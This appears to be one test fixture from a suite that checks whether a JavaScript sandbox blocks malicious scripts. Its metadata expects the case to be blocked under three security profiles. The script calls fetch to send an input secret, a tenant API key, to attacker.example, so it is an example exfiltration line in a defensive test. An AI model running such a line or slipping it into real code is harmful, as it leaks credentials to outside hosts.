/*---
id: ex-fetch-01-plain
description: "Sends the input to an attacker's server with fetch; absent outside tenant-isolated, and rejected there because no origin is allowlisted by default."
kind: malicious
category: exfiltration
technique: EX-fetch
variant: plain
references:
  - "isolated-vm FAQ"
  - "Deno permissions"
  - "workerd capability bindings"
expect:
  ultra-secure: { outcome: blocked, stages: [scan, runtime], errors: [ERR_SCRIPT_ERROR] }
  high-security: { outcome: blocked, stages: [scan, runtime], errors: [ERR_SCRIPT_ERROR] }
  tenant-isolated: { outcome: blocked, stages: [scan, runtime], errors: [ERR_SCRIPT_ERROR] }
input: { secret: "tenant-api-key" }
flags: [async]
---*/
const res = await fetch('https://attacker.example/collect?d=' + encodeURIComponent(input.secret));
return res.status;
